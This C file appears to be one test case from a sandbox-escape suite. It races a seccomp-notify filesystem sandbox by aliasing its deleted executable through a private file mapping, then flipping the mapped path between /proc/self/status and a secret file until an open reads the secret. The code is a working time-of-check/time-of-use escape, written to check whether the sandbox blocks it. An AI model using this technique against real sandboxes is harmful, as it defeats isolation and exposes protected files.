/*
 * Vectors 3, 10 (seccomp-notify): an open the notify backend leaves to the
 * kernel (a /proc path, answered CONTINUE) is safe only if nothing can
 * rewrite its path before the kernel reads it again; a private file mapping
 * counts as safe when /proc/TID/maps names it like /proc/TID/exe. Both are
 * names: run from a copy, delete it ("X (deleted)"), then map another file
 * of that name privately and delete it too: the same string. A second
 * process pwrites that file between "/proc/self/status" and the secret's
 * path; the page cache shows through the (untouched) private mapping.
 * success = an open of the mapped string read the secret.
 * expect: ptrace_file
 */
#include "esc.h"

#include <signal.h>
#include <sys/mman.h>

static int stage2(const char *self)
{
	static char a[4096], b[4096];
	int fd, wins = 0, tries = 0;
	char *map;
	pid_t flip;
	double end;

	snprintf(a, sizeof(a), "/proc/self/status");
	snprintf(b, sizeof(b), "%s", esc_secret_path());
	if (unlink(self) < 0) /* our exe is now "self (deleted)" */
		esc_broken("unlink %s: %s", self, strerror(errno));
	fd = open(self, O_RDWR | O_CREAT | O_EXCL, 0600);
	if (fd < 0 || pwrite(fd, a, sizeof(a), 0) != sizeof(a))
		esc_broken("alias file: %s", strerror(errno));
	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED || unlink(self) < 0) /* and so is the alias */
		esc_broken("map alias: %s", strerror(errno));
	flip = fork();
	if (flip == 0)
		for (;;) {
			if (pwrite(fd, b, sizeof(b), 0) < 0 || pwrite(fd, a, sizeof(a), 0) < 0)
				_exit(2);
		}
	end = esc_now() + esc_race_seconds();
	while (!wins && esc_now() < end) {
		int o = open(map, O_RDONLY);

		tries++;
		if (o >= 0 && esc_fd_has_secret(o))
			wins++;
		if (o >= 0)
			close(o);
	}
	kill(flip, SIGKILL);
	esc_wait(flip);
	if (wins)
		esc_success("open of a string in a private mapping aliasing our exe read the secret "
			    "(%d tries)", tries);
	esc_blocked("never read the secret in %d tries", tries);
}

int main(int argc, char **argv)
{
	const char *self = esc_fmt("%s/esc_alias_%d", esc_work(), (int)getpid());
	extern char **environ;

	if (argc > 2 && strcmp(argv[1], "stage2") == 0)
		return stage2(argv[2]);
	esc_copy_file("/proc/self/exe", self, 0700);
	execve(self, (char *[]){ (char *)self, "stage2", (char *)self, NULL }, environ);
	esc_broken("exec %s: %s", self, strerror(errno));
}
